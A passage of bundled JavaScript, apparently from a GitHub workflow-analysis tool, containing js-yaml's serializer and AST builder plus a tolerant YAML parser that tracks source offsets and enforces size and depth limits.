		const keyIsBlock = (key.kind === "mapping" || key.kind === "sequence") && key.style === COLLECTION_STYLE.BLOCK && key.items.length !== 0 || key.kind === "scalar" && (key.style === SCALAR_STYLE.LITERAL_BLOCK || key.style === SCALAR_STYLE.FOLDED_BLOCK);
		const keyRender = keyIsBlock ? writeNode(state, level + 1, key, node, {
			block: true,
			compact: true,
			isblockseq: !cannotBeCompact(state, key, level + 1)
		}) : writeNode(state, level + 1, key, node, {
			block: true,
			compact: true,
			iskey: true
		});
		const keyText = keyRender.text;
		const keyHasLineBreak = key.kind === "scalar" && key.value.indexOf("\n") !== -1;
		const keyIsTooLong = keyText.length > 1024 && /^[\s\S]{1025}/u.test(keyText);
		const explicitPair = keyIsBlock || keyHasLineBreak || keyIsTooLong;
		if (explicitPair) {
			if (keyText && CHAR_LINE_FEED === keyText.charCodeAt(0)) pairBuffer += "?";
			else pairBuffer += "? ";
		}
		pairBuffer += keyText;
		if (explicitPair) pairBuffer += generateNextLine(state, level);
		const valueText = writeNode(state, level + 1, value, node, {
			block: true,
			compact: explicitPair,
			isblockseq: explicitPair && !cannotBeCompact(state, value, level + 1)
		}).text;
		const keyIsBareProps = key.kind === "scalar" && keyRender.noBody && (key.tagged || key.anchor !== void 0);
		const keyColonSep = !explicitPair && (key.kind === "alias" || keyIsBareProps) ? " " : "";
		if (valueText === "" || CHAR_LINE_FEED === valueText.charCodeAt(0)) pairBuffer += `${keyColonSep}:`;
		else pairBuffer += `${keyColonSep}: `;
		pairBuffer += valueText;
		result += pairBuffer;
	}
	return result;
}
function cannotBeCompact(state, node, level) {
	if (node.kind === "alias") return true;
	return node.tagged || node.anchor !== void 0 || state.indent < 2 && level > 0;
}
function writeNode(state, level, node, parent, ctx) {
	if (node.kind === "alias") {
		state.openEnded = false;
		return {
			text: `*${node.anchor}`,
			noBody: false
		};
	}
	const { block = false, iskey = false, isblockseq = false } = ctx;
	let compact = ctx.compact ?? false;
	const hasAnchor = node.anchor !== void 0;
	if (cannotBeCompact(state, node, level)) compact = false;
	let body;
	let shouldPrintTag = node.tagged;
	const useBlockCollection = block && (node.kind === "mapping" || node.kind === "sequence") && node.style === COLLECTION_STYLE.BLOCK && node.items.length !== 0;
	if (node.kind === "mapping") {
		if (useBlockCollection) body = writeBlockMapping(state, level, node, compact);
		else body = writeFlowMapping(state, level, node);
	} else if (node.kind === "sequence") {
		if (useBlockCollection) {
			if (state.seqNoIndent && !isblockseq && level > 0) body = writeBlockSequence(state, level - 1, node, compact);
			else body = writeBlockSequence(state, level, node, compact);
		} else body = writeFlowSequence(state, level, node);
	} else {
		const layout = scalarLayout(state, node, parent, level, iskey, !block);
		detectAllowedStyles(layout);
		for (const rule of state.scalarStyleRules) rule(layout);
		body = renderScalar(layout);
		state.openEnded = (layout.style === SCALAR_STYLE.LITERAL_BLOCK || layout.style === SCALAR_STYLE.FOLDED_BLOCK) && (node.value === "\n" || node.value.endsWith("\n\n"));
		shouldPrintTag = node.tagged || body === "" && layout.flowOnly && parent?.kind === "sequence" && !hasAnchor || layout.style !== SCALAR_STYLE.PLAIN && node.tag !== state.defaultScalarTagName;
	}
	if ((node.kind === "mapping" || node.kind === "sequence") && !useBlockCollection) state.openEnded = false;
	if (useBlockCollection && compact && level > 0 && state.indent > 2) body = `${" ".repeat(state.indent - 2)}${body}`;
	const noBody = body === "";
	let text = body;
	if (shouldPrintTag || hasAnchor) {
		const props = [];
		const tag = shouldPrintTag ? nodeTagShort(node) : null;
		const anchor = hasAnchor ? `&${node.anchor}` : null;
		if (state.tagBeforeAnchor) {
			if (tag !== null) props.push(tag);
			if (anchor !== null) props.push(anchor);
		} else {
			if (anchor !== null) props.push(anchor);
			if (tag !== null) props.push(tag);
		}
		const sep = body === "" || body.charCodeAt(0) === CHAR_LINE_FEED ? "" : " ";
		text = `${props.join(" ")}${sep}${body}`;
	}
	return {
		text,
		noBody
	};
}
function rootStartsOwnLine(node) {
	return (node.kind === "sequence" || node.kind === "mapping") && node.style === COLLECTION_STYLE.BLOCK && node.items.length !== 0 && !node.tagged && node.anchor === void 0;
}
function writeDocumentDirectives(doc) {
	let result = "";
	for (const directive of doc.directives) {
		if (directive.kind === "yaml") {
			result += `%YAML ${directive.version}\n`;
			continue;
		}
		const { handle, prefix } = directive;
		result += `%TAG ${handle} ${prefix}\n`;
	}
	return result;
}
/**
* Build YAML from AST.
*
* @category AST
*/
function present(documents, options) {
	const state = createPresenterState(options);
	let result = "";
	let previousEnded = false;
	for (let index = 0; index < documents.length; index += 1) {
		const doc = documents[index];
		state.openEnded = false;
		const directives = writeDocumentDirectives(doc);
		const hasDirectives = directives !== "";
		const marker = doc.explicitStart || hasDirectives || index > 0 && !previousEnded;
		result += directives;
		if (doc.contents === null) {
			if (marker) result += "---\n";
		} else if (marker) {
			const body = writeNode(state, 0, doc.contents, null, {
				block: true,
				compact: true
			}).text;
			const sep = body === "" ? "" : hasDirectives || rootStartsOwnLine(doc.contents) ? "\n" : " ";
			result += `---${sep}${body}\n`;
		} else result += writeNode(state, 0, doc.contents, null, {
			block: true,
			compact: true
		}).text + "\n";
		previousEnded = doc.explicitEnd || state.openEnded;
		if (previousEnded) result += "...\n";
	}
	return result;
}
//#endregion
//#region src/dump.ts
var DEFAULT_DUMP_OPTIONS = {
	...DEFAULT_PRESENTER_OPTIONS,
	schema: DUMP_SCHEMA,
	skipInvalid: false,
	noRefs: false,
	flowLevel: -1,
	sortKeys: false,
	transform: () => {}
};
function defaultCompareFn(a, b) {
	const x = String(a);
	const y = String(b);
	if (x < y) return -1;
	if (x > y) return 1;
	return 0;
}
/**
* Serializes JS object as a YAML document. By default it can dump every
* supported YAML type, so it throws an exception if you try to dump regexps or
* functions. However, you can disable exceptions by setting the
* {@link DumpOptions.skipInvalid} option to `true`.
*
* @category Main
*/
function dump(input, options = {}) {
	const opts = {
		...DEFAULT_DUMP_OPTIONS,
		...options
	};
	const documents = jsToAst(input, opts.schema, {
		noRefs: opts.noRefs,
		skipInvalid: opts.skipInvalid
	});
	if (opts.flowLevel >= 0) visit(documents, (node, ctx) => {
		if (ctx.depth < opts.flowLevel) return;
		if (node.kind === "sequence" || node.kind === "mapping") node.style = COLLECTION_STYLE.FLOW;
		return VISIT_SKIP;
	});
	if (opts.sortKeys) {
		const compareFn = opts.sortKeys === true ? defaultCompareFn : opts.sortKeys;
		visit(documents, (node) => {
			if (node.kind !== "mapping") return;
			node.items.sort((a, b) => compareFn(a.key.kind === "scalar" ? a.key.value : "", b.key.kind === "scalar" ? b.key.value : ""));
		});
	}
	opts.transform(documents);
	return present(documents, {
		...pick(opts, Object.keys(DEFAULT_PRESENTER_OPTIONS)),
		schema: opts.schema
	});
}
//#endregion
//#region src/ast/from_events.ts
var NO_RANGE = (/* unused pure expression or super */ null && (-1));
function eventPosition(event) {
	if ("tagStart" in event && event.tagStart !== NO_RANGE) return event.tagStart;
	if ("anchorStart" in event && event.anchorStart !== NO_RANGE) return event.anchorStart;
	if ("valueStart" in event && event.valueStart !== NO_RANGE) return event.valueStart;
	if ("start" in event) return event.start;
	return 0;
}
function rawTag(state, event) {
	return event.tagStart === NO_RANGE ? "" : state.source.slice(event.tagStart, event.tagEnd);
}
function anchorName(state, event) {
	return event.anchorStart === NO_RANGE ? void 0 : state.source.slice(event.anchorStart, event.anchorEnd);
}
function buildScalar(state, event) {
	const value = getScalarValue(state.source, event);
	const raw = rawTag(state, event);
	let tag;
	let tagged = false;
	if (raw !== "") {
		tagged = true;
		tag = raw;
	} else if (event.style === SCALAR_STYLE.PLAIN) tag = state.schema.resolveImplicitScalarTag(value).tag.tagName;
	else tag = state.schema.defaultScalarTag.tagName;
	return {
		kind: "scalar",
		tag,
		tagged,
		style: event.style,
		anchor: anchorName(state, event),
		value
	};
}
function buildCollection(state, event, defaultTagName) {
	const raw = rawTag(state, event);
	let tag;
	let tagged = false;
	if (raw === "") tag = defaultTagName;
	else {
		tag = raw;
		tagged = true;
	}
	return {
		tag,
		tagged,
		style: event.style,
		anchor: anchorName(state, event)
	};
}
function addNode(state, node) {
	const frame = state.frames[state.frames.length - 1];
	if (frame.kind === "document") frame.doc.contents = node;
	else if (frame.kind === "sequence") frame.node.items.push(node);
	else if (frame.key) {
		frame.node.items.push({
			key: frame.key,
			value: node
		});
		frame.key = null;
	} else frame.key = node;
}
/**
* Builds an AST from parser events
*
* @category AST
*/
function eventsToAst(events, options) {
	const state = {
		source: options.source,
		schema: options.schema,
		eventIndex: 0,
		position: 0,
		frames: [],
		documents: []
	};
	while (state.eventIndex < events.length) {
		const event = events[state.eventIndex++];
		state.position = eventPosition(event);
		switch (event.type) {
			case EVENT_ID.DOCUMENT: {
				const doc = {
					contents: null,
					explicitStart: event.explicitStart,
					explicitEnd: event.explicitEnd,
					directives: event.directives
				};
				state.frames.push({
					kind: "document",
					doc
				});
				break;
			}
			case EVENT_ID.SCALAR:
				addNode(state, buildScalar(state, event));
				break;
			case EVENT_ID.SEQUENCE: {
				const { tag, tagged, style, anchor } = buildCollection(state, event, "tag:yaml.org,2002:seq");
				const node = {
					kind: "sequence",
					tag,
					tagged,
					style,
					anchor,
					items: []
				};
				state.frames.push({
					kind: "sequence",
					node
				});
				break;
			}
			case EVENT_ID.MAPPING: {
				const { tag, tagged, style, anchor } = buildCollection(state, event, "tag:yaml.org,2002:map");
				const node = {
					kind: "mapping",
					tag,
					tagged,
					style,
					anchor,
					items: []
				};
				state.frames.push({
					kind: "mapping",
					node,
					key: null
				});
				break;
			}
			case EVENT_ID.ALIAS:
				addNode(state, {
					kind: "alias",
					anchor: state.source.slice(event.anchorStart, event.anchorEnd)
				});
				break;
			case EVENT_ID.POP: {
				const frame = state.frames.pop();
				if (frame.kind === "mapping" && frame.key) throw new Error("incomplete mapping pair in event stream");
				if (frame.kind === "document") state.documents.push(frame.doc);
				else addNode(state, frame.node);
				break;
			}
		}
	}
	return state.documents;
}
//#endregion
//#region src/index.ts
/** @deprecated Use `EVENT_ID.DOCUMENT` instead. @internal */
var EVENT_DOCUMENT = EVENT_ID.DOCUMENT;
/** @deprecated Use `EVENT_ID.SEQUENCE` instead. @internal */
var EVENT_SEQUENCE = EVENT_ID.SEQUENCE;
/** @deprecated Use `EVENT_ID.MAPPING` instead. @internal */
var EVENT_MAPPING = EVENT_ID.MAPPING;
/** @deprecated Use `EVENT_ID.SCALAR` instead. @internal */
var EVENT_SCALAR = EVENT_ID.SCALAR;
/** @deprecated Use `EVENT_ID.ALIAS` instead. @internal */
var EVENT_ALIAS = EVENT_ID.ALIAS;
/** @deprecated Use `EVENT_ID.POP` instead. @internal */
var EVENT_POP = EVENT_ID.POP;
/** @deprecated Use `SCALAR_STYLE.PLAIN` instead. @internal */
var SCALAR_STYLE_PLAIN = SCALAR_STYLE.PLAIN;
/** @deprecated Use `SCALAR_STYLE.SINGLE_QUOTED` instead. @internal */
var SCALAR_STYLE_SINGLE_QUOTED = SCALAR_STYLE.SINGLE_QUOTED;
/** @deprecated Use `SCALAR_STYLE.DOUBLE_QUOTED` instead. @internal */
var SCALAR_STYLE_DOUBLE_QUOTED = SCALAR_STYLE.DOUBLE_QUOTED;
/** @deprecated Use `SCALAR_STYLE.LITERAL_BLOCK` instead. @internal */
var SCALAR_STYLE_LITERAL_BLOCK = SCALAR_STYLE.LITERAL_BLOCK;
/** @deprecated Use `SCALAR_STYLE.FOLDED_BLOCK` instead. @internal */
var SCALAR_STYLE_FOLDED_BLOCK = SCALAR_STYLE.FOLDED_BLOCK;
/** @deprecated Use `COLLECTION_STYLE.BLOCK` instead. @internal */
var COLLECTION_STYLE_BLOCK = COLLECTION_STYLE.BLOCK;
/** @deprecated Use `COLLECTION_STYLE.FLOW` instead. @internal */
var COLLECTION_STYLE_FLOW = COLLECTION_STYLE.FLOW;
/** @deprecated Use `CHOMPING_MODE.CLIP` instead. @internal */
var CHOMPING_CLIP = CHOMPING_MODE.CLIP;
/** @deprecated Use `CHOMPING_MODE.STRIP` instead. @internal */
var CHOMPING_STRIP = CHOMPING_MODE.STRIP;
/** @deprecated Use `CHOMPING_MODE.KEEP` instead. @internal */
var CHOMPING_KEEP = CHOMPING_MODE.KEEP;
//#endregion


//# sourceMappingURL=js-yaml.mjs.map
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/document.js
var yaml_document = __nccwpck_require__(8165);
// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/gaps.js
var gaps = __nccwpck_require__(4937);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/parse.js





/**
 * Reads a YAML file as GitHub does: YAML 1.2, one document, anchors and aliases but no merge keys.
 *
 * js-yaml's events give the tree; what it refuses is read by the `yaml` library, which recovers from errors.
 * Never throws for bad input: see `problems` of the result.
 */
async function parseYaml(file) {
    const nul = file.text.indexOf("\0");
    if (nul !== -1)
        return unread(file, { start: nul, end: nul + 1, message: "a NUL character, which no YAML file may hold" });
    const events = readEvents(file.text);
    return Array.isArray(events) ? new TreeBuilder(file, events).build() : recover(file, events.error);
}
/** More brackets of that kind in one file are left to the slower library. */
const MAX_RETRIES = 20;
/**
 * js-yaml's events, or what it threw.
 *
 * It refuses a flow collection whose closing bracket stands as far left as the key that holds it, which is common and
 * which GitHub reads. There the line break before the bracket is read as a space: no offset changes.
 */
function readEvents(text) {
    let readable = text;
    for (let attempt = 0;; attempt++) {
        try {
            return parseEvents(readable, { maxDepth: limits/* MAX_DEPTH */.lr });
        }
        catch (error) {
            const joined = attempt < MAX_RETRIES ? joinBracketLine(readable, error) : null;
            if (joined === null)
                return { error };
            readable = joined;
        }
    }
}
/** Null unless the error is about a closing bracket alone at the beginning of its line, with no comment before it. */
function joinBracketLine(text, error) {
    if (!(error instanceof YAMLException) || !error.reason.includes("indentation"))
        return null;
    const at = error.mark?.position ?? 0;
    if (text[at] !== "]" && text[at] !== "}")
        return null;
    let blank = at;
    while (blank > 0 && /\s/.test(text[blank - 1]))
        blank--;
    const lineStart = Math.max(text.lastIndexOf("\n", blank), text.lastIndexOf("\r", blank)) + 1;
    if (text.slice(lineStart, blank).includes("#"))
        return null;
    return text.slice(0, blank) + " ".repeat(at - blank) + text.slice(at);
}
async function recover(file, error) {
    const problem = problemOf(file, error);
    if (file.text.length > limits/* MAX_FALLBACK_BYTES */._4 || /nesting|depth/i.test(problem.message)) {
        return unread(file, problem);
    }
    const { parseTolerantly } = await Promise.all(/* import() */[__nccwpck_require__.e(815), __nccwpck_require__.e(289)]).then(__nccwpck_require__.bind(__nccwpck_require__, 8289));
    return parseTolerantly(file, problem);
}
function unread(file, problem) {
    return new yaml_document/* LazyDocument */.m(file, undefined, [problem], () => []);
}
function problemOf(file, error) {
    if (error instanceof YAMLException) {
        const at = Math.min(error.mark?.position ?? 0, file.text.length);
        return { start: at, end: at, message: error.reason };
    }
    // js-yaml documents that hostile input can make it throw anything, stack overflow included.
    return { start: 0, end: 0, message: error instanceof RangeError ? "nested too deeply" : String(error) };
}
/** By the number of js-yaml's style. */
const STYLES = {
    [SCALAR_STYLE.PLAIN]: "plain",
    [SCALAR_STYLE.SINGLE_QUOTED]: "single",
    [SCALAR_STYLE.DOUBLE_QUOTED]: "double",
    [SCALAR_STYLE.LITERAL_BLOCK]: "literal",
    [SCALAR_STYLE.FOLDED_BLOCK]: "folded",
};
/** Mappings of more keys look for doubles by hash. */
const FEW_KEYS = 12;
/**
 * Makes nodes of events. The hot path of the whole analysis: it allocates nothing but the nodes, and keeps what a value
 * carries beside its node (`alias`, `weight`) in fields.
 */
class TreeBuilder {
    file;
    events;
    index = 0;
    /** The end of the last token read: gaps begin here. */
    lastEnd = 0;
    /** The alias that the last value was written as. */
    alias = null;
    /** Nodes so far, aliases unfolded. */
    weight = 0;
    anchors = new Map();
    problems = [];
    scalars = [];
    constructor(file, events) {
        this.file = file;
        this.events = events;
    }
    build() {
        const root = this.documents();
        if (this.weight > limits/* MAX_UNFOLDED_NODES */.xu) {
            const message = `it has more than ${limits/* MAX_UNFOLDED_NODES */.xu} nodes, aliases unfolded`;
            return new yaml_document/* LazyDocument */.m(this.file, undefined, [{ start: 0, end: 0, message }], () => this.scalars);
        }
        const isNothing = root?.kind === "scalar" && root.isEmpty;
        return new yaml_document/* LazyDocument */.m(this.file, isNothing ? undefined : root, this.problems, () => this.scalars);
    }
    /** The root of the first document; a second one is a problem. */
    documents() {
        let root;
        while (this.index < this.events.length) {
            const event = this.events[this.index++];
            if (event.type !== EVENT_ID.DOCUMENT || this.atPop)
                continue;
            if (root) {
                const marker = Math.max(this.lastEnd, this.file.text.indexOf("---", this.lastEnd));
                this.problem(marker, marker, "a second YAML document: GitHub reads only one a file");
                break;
            }
            root = this.value();
        }
        return root;
    }
    value() {
        const event = this.events[this.index++];
        this.alias = null;
        switch (event.type) {
            case EVENT_ID.SCALAR: {
                this.weight++;
                const node = this.scalar(event);
                if (event.anchorStart >= 0)
                    this.anchors.set(this.nameOf(event), { node, weight: 1 });
                return node;
            }
            case EVENT_ID.SEQUENCE:
            case EVENT_ID.MAPPING:
                return this.collection(event);
            case EVENT_ID.ALIAS:
                return this.aliased(event);
            default:
                return this.emptyScalar(this.lastEnd);
        }
    }
    collection(event) {
        const before = this.weight++;
        this.lastEnd = Math.max(this.lastEnd, event.start, event.anchorEnd, event.tagEnd);
        const name = event.anchorStart >= 0 ? this.nameOf(event) : null;
        // Known while it is open, so that an alias to it inside itself can be told from one to nothing.
        if (name !== null)
            this.anchors.set(name, null);
        const node = event.type === EVENT_ID.SEQUENCE ? this.sequence(event) : this.mapping(event);
        if (name !== null)
            this.anchors.set(name, { node, weight: this.weight - before });
        this.alias = null;
        return node;
    }
    aliased(event) {
        const name = this.nameOf(event);
        const span = { start: event.anchorStart - 1, end: event.anchorEnd };
        this.lastEnd = event.anchorEnd;
        this.alias = span;
        const target = this.anchors.get(name);
        if (target) {
            this.weight += target.weight;
            return target.node;
        }
        const why = target === null ? "stands inside the node it names" : "names no anchor above it";
        this.problem(span.start, span.end, `the alias \`*${name}\` ${why}`);
        return this.emptyScalar(span.end);
    }
    nameOf(event) {
        return this.file.text.slice(event.anchorStart, event.anchorEnd);
    }
    scalar(event) {
        const propertiesEnd = Math.max(this.lastEnd, event.anchorEnd, event.tagEnd);
        if (event.valueStart < 0)
            return this.emptyScalar(this.afterIndicator(propertiesEnd));
        const style = STYLES[event.style];
        const start = this.startOf(event, style, propertiesEnd);
        const end = style === "single" || style === "double" ? event.valueEnd + 1 : event.valueEnd;
        const node = new nodes/* YamlScalar */.Q0(this.file, start, end, style, event.valueStart, event.valueEnd, event.tagStart < 0 ? "" : this.file.text.slice(event.tagStart, event.tagEnd), event.fast ? null : decodeEvent, event.fast ? null : event);
        this.scalars.push(node);
        this.lastEnd = end;
        return node;
    }
    /** Quotes and block headers stand before what the event calls the value. */
    startOf(event, style, propertiesEnd) {
        if (style === "plain")
            return event.valueStart;
        if (style === "single" || style === "double")
            return event.valueStart - 1;
        const header = (0,gaps/* findIndicator */.H)(this.file.text, propertiesEnd, event.valueStart, "|>");
        return header === -1 ? event.valueStart : header;
    }
    emptyScalar(at) {
        return new nodes/* YamlScalar */.Q0(this.file, at, at, "plain", at, at, "", null, null);
    }
    /** The place right after the `:` or `-` that a missing value follows. */
    afterIndicator(from) {
        const text = this.file.text;
        let at = from;
        while (text[at] === " " || text[at] === "\t")
            at++;
        return text[at] === ":" || text[at] === "-" ? at + 1 : from;
    }
    get atPop() {
        const event = this.events[this.index];
        return event === undefined || event.type === EVENT_ID.POP;
    }
    close(isFlow, bracket) {
        this.index++;
        if (isFlow) {
            const at = (0,gaps/* findIndicator */.H)(this.file.text, this.lastEnd, this.file.text.length, bracket);
            if (at !== -1)
                this.lastEnd = at + 1;
        }
        return this.lastEnd;
    }
    sequence(event) {
        const items = [];
        while (!this.atPop) {
            const value = this.value();
            items.push({ value, alias: this.alias });
        }
        const isFlow = event.style === COLLECTION_STYLE.FLOW;
        return new nodes/* YamlSeq */.nJ(this.file, event.start, this.close(isFlow, "]"), isFlow, items);
    }
    mapping(event) {
        const entries = [];
        while (!this.atPop) {
            const key = this.key();
            const value = this.value();
            entries.push({ key, value, alias: this.alias });
        }
        this.checkKeys(entries);
        const isFlow = event.style === COLLECTION_STYLE.FLOW;
        return new nodes/* YamlMap */._M(this.file, event.start, this.close(isFlow, "}"), isFlow, entries);
    }
    key() {
        const node = this.value();
        if (node.kind === "scalar")
            return node;
        this.problem(node.start, node.end, "a mapping or sequence stands where a key is expected");
        return new nodes/* YamlScalar */.Q0(this.file, node.start, node.end, "plain", node.start, node.end, "", null, null);
    }
    checkKeys(entries) {
        const seen = entries.length > FEW_KEYS ? new Set() : null;
        for (let i = 0; i < entries.length; i++) {
            const { key } = entries[i];
            const name = key.value;
            if (name === "<<" && key.style === "plain") {
                this.problem(key.start, key.end, "GitHub has no merge keys: `<<` is refused");
            }
            else if (seen ? seen.has(name) : isAmong(entries, name, i)) {
                this.problem(key.start, key.end, `the key \`${name}\` stands twice in this mapping`);
            }
            seen?.add(name);
        }
    }
    problem(start, end, message) {
        this.problems.push({ start, end, message });
    }
}
/** Is it the name of one of the first `count` keys? */
function isAmong(entries, name, count) {
    for (let i = 0; i < count; i++)
        if (entries[i].key.value === name)
            return true;
    return false;
}
function decodeEvent(text, raw) {
    return getScalarValue(text, raw);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/index.js







/***/ }),

/***/ 8232:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {

/* harmony export */ __nccwpck_require__.d(__webpack_exports__, {
/* harmony export */   _4: () => (/* binding */ MAX_FALLBACK_BYTES),
/* harmony export */   gZ: () => (/* binding */ MAX_FILE_BYTES),
/* harmony export */   lr: () => (/* binding */ MAX_DEPTH),
/* harmony export */   xu: () => (/* binding */ MAX_UNFOLDED_NODES)
/* harmony export */ });
/** Larger files are not read: GitHub's own limit for a workflow is far below (512 KiB). */
const MAX_FILE_BYTES = 5 * 1024 * 1024;
/** Deeper nesting is refused; real workflows stay below 20. */
const MAX_DEPTH = 100;
/** Nodes of a file, its aliases unfolded: an alias bomb passes it, real files stay below a tenth. */
const MAX_UNFOLDED_NODES = 100_000;
/** The `yaml` library reads what the fast front end refuses, up to here: broken input costs it seconds a megabyte. */
const MAX_FALLBACK_BYTES = 128 * 1024;


/***/ }),

/***/ 5655:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __nccwpck_require__) => {


// EXPORTS
__nccwpck_require__.d(__webpack_exports__, {
  _M: () => (/* binding */ YamlMap),
  Q0: () => (/* binding */ YamlScalar),
  nJ: () => (/* binding */ YamlSeq)
});

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/yaml/core-schema.js
var core_schema = __nccwpck_require__(5891);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/scalar-offsets.js
/**
 * For each character of a scalar's value, the offset in the file at which it is written; past its end, the content's end.
 *
 * Decoding a scalar drops indentation, folds lines and resolves escapes (YAML 1.2.2, chapters 7 and 8), but keeps the
 * order of everything that is not white space: so the value and its source are walked side by side.
 */
function offsetsOf(text, source, value) {
    if (isVerbatim(text, source, value))
        return (index) => Math.min(source.contentStart + index, source.contentEnd);
    if (source.style === "literal")
        return literalOffsets(text, source, value);
    const offsets = new Int32Array(value.length);
    if (source.style === "double")
        walkDoubleQuoted(text, source, value, offsets);
    else
        walkFolded(text, source, value, offsets);
    return (index) => offsets[index] ?? source.contentEnd;
}
/** How many characters of the source stand for the one at `offset`: escapes and doubled quotes are longer. */
function sourceLength(text, source, offset) {
    if (source.style === "single")
        return text[offset] === "'" ? 2 : 1;
    if (source.style === "double" && text[offset] === "\\")
        return readEscape(text, offset).length;
    return 1;
}
function isVerbatim(text, source, value) {
    return source.contentEnd - source.contentStart === value.length && text.startsWith(value, source.contentStart);
}
/** Plain, single-quoted and folded scalars: white space may change, nothing else but `''`. */
function walkFolded(text, source, value, offsets) {
    let at = source.contentStart;
    const end = source.contentEnd;
    for (let i = 0; i < value.length; i++) {
        const code = value.charCodeAt(i);
        if (isSpace(code)) {
            offsets[i] = Math.min(at, end);
            if (isSpace(text.charCodeAt(at)) && at < end)
                at++;
            continue;
        }
        while (at < end && text.charCodeAt(at) !== code)
            at++;
        offsets[i] = Math.min(at, end);
        at++;
        if (code === 39 && source.style === "single" && text.charCodeAt(at) === 39)
            at++;
    }
}
/** Literal block scalars: each line loses the block's indentation, and CRLF becomes LF. So lines are all there is to know. */
function literalOffsets(text, source, value) {
    const starts = [];
    /** By line: where it is written, and the line break behind it. */
    const written = [];
    let at = source.contentStart;
    for (let i = 0; i < value.length;) {
        const lineEnd = value.indexOf("\n", i);
        const stop = lineEnd === -1 ? value.length : lineEnd;
        const end = endOfLine(text, at, source.contentEnd);
        starts.push(i);
        written.push({ start: Math.max(at, end - (stop - i)), end });
        i = stop + 1;
        at = afterLineBreak(text, end);
    }
    return (index) => {
        if (index >= value.length)
            return source.contentEnd;
        const line = lastAtMost(starts, index);
        const { start, end } = written[line];
        return Math.min(start + index - starts[line], end);
    };
}
/** The position of the last number that is at most `wanted`, in an ascending list whose first is. */
function lastAtMost(ascending, wanted) {
    let low = 0;
    let high = ascending.length - 1;
    while (low < high) {
        const middle = (low + high + 1) >> 1;
        if (ascending[middle] <= wanted)
            low = middle;
        else
            high = middle - 1;
    }
    return low;
}
function walkDoubleQuoted(text, source, value, offsets) {
    let at = source.contentStart;
    let i = 0;
    const end = source.contentEnd;
    while (i < value.length && at < end) {
        const code = text.charCodeAt(at);
        if (code === 92) {
            const sequence = readEscape(text, at);
            for (let k = 0; k < sequence.units && i < value.length; k++)
                offsets[i++] = at;
            at += sequence.length;
        }
        else if (isSpace(code)) {
            const next = skipSpace(text, at, end);
            const isFolded = hasLineBreak(text, at, next);
            while (i < value.length && isSpace(value.charCodeAt(i)) && at < next) {
                offsets[i++] = at;
                if (!isFolded || at < next - 1)
                    at++;
            }
            at = next;
        }
        else {
            offsets[i++] = at++;
        }
    }
    while (i < value.length)
        offsets[i++] = end;
}
const HEX_ESCAPES = new Map([
    [120, 2],
    [117, 4],
    [85, 8],
]);
/** How long an escape is in the source, and how many UTF-16 units it gives (YAML 1.2.2, section 5.7). */
function readEscape(text, at) {
    const code = text.charCodeAt(at + 1);
    const digits = HEX_ESCAPES.get(code);
    if (digits !== undefined) {
        const point = Number.parseInt(text.slice(at + 2, at + 2 + digits), 16);
        return { length: 2 + digits, units: point > 0xffff ? 2 : 1 };
    }
    if (code === 10 || code === 13) {
        let end = afterLineBreak(text, at + 1);
        while (text.charCodeAt(end) === 32 || text.charCodeAt(end) === 9)
            end++;
        return { length: end - at, units: 0 };
    }
    return { length: 2, units: 1 };
}
function isSpace(code) {
    return code === 32 || code === 9 || code === 10 || code === 13;
}
function skipSpace(text, at, end) {
    let next = at;
    while (next < end && isSpace(text.charCodeAt(next)))
        next++;
    return next;
}
function hasLineBreak(text, start, end) {
    for (let i = start; i < end; i++) {
        const code = text.charCodeAt(i);
        if (code === 10 || code === 13)
            return true;
    }
    return false;
}
function endOfLine(text, start, end) {
    let at = start;
    while (at < end && text.charCodeAt(at) !== 10 && text.charCodeAt(at) !== 13)
        at++;
    return at;
}
function afterLineBreak(text, at) {
    if (text.charCodeAt(at) === 13 && text.charCodeAt(at + 1) === 10)
        return at + 2;
    return at + 1;
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/yaml/nodes.js


class YamlScalar {
    file;
    start;
    end;
    style;
    contentStart;
    contentEnd;
    tag;
    decode;
    raw;
    kind = "scalar";
    // Plain properties: a file has thousands of scalars, and private names cost each of them.
    decoded = undefined;
    offsets = undefined;
    constructor(file, 
    /** With quotes; a block scalar begins at its `|` or `>`. */
    start, end, style, contentStart, contentEnd, 
    /** `!!str`, `!x` as written; empty when there is none. */
    tag, decode, raw) {
        this.file = file;
        this.start = start;
        this.end = end;
        this.style = style;
        this.contentStart = contentStart;
        this.contentEnd = contentEnd;
        this.tag = tag;
        this.decode = decode;
        this.raw = raw;
    }
    get isBlock() {
        return this.style === "literal" || this.style === "folded";
    }
    /** The decoded text, whatever its type: `on` and `yes` are the strings they look like. */
    get value() {
        if (this.decoded === undefined) {
            const text = this.file.text;
            this.decoded = this.decode ? this.decode(text, this.raw) : text.slice(this.contentStart, this.contentEnd);
        }
        return this.decoded;
    }
    /**
     * False where the value surely doesn't hold `part`, which has no white space in it: looked for in the source, so that
     * long scripts needn't be decoded for nothing.
     */
    mayContain(part) {
        return this.cheapText().includes(part);
    }
    /** The same for a pattern that spans no lines. */
    mayMatch(pattern) {
        return pattern.test(this.cheapText());
    }
    cheapText() {
        // Escapes can spell anything; a decoded value may as well be asked itself.
        const isDecoded = this.style === "double" || this.decoded !== undefined;
        return isDecoded ? this.value : this.file.text.slice(this.contentStart, this.contentEnd);
    }
    /** The value by the core schema of YAML 1.2 (section 10.3.2): only plain scalars can be anything but a string. */
    get typed() {
        return this.style === "plain" && this.tag === "" ? (0,core_schema/* resolveCore */.G)(this.value) : this.value;
    }
    get isNull() {
        return this.typed === null;
    }
    /** Nothing is written here: `key:` and then the next key. */
    get isEmpty() {
        return this.contentStart === this.contentEnd && this.style === "plain";
    }
    /** The file's range of the characters `start` to `end` (exclusive) of `value`. */
    spanOf(start, end) {
        this.offsets ??= offsetsOf(this.file.text, this, this.value);
        const from = this.offsets(start);
        const last = end > start ? this.offsets(end - 1) : from;
        const to = end > start ? last + sourceLength(this.file.text, this, last) : from;
        // A value may end with a line break that the file doesn't have.
        return { start: from, end: Math.max(from, Math.min(to, this.contentEnd)) };
    }
}
class YamlMap {
    file;
    start;
    end;
    flow;
    entries;
    kind = "map";
    constructor(file, start, end, flow, entries) {
        this.file = file;
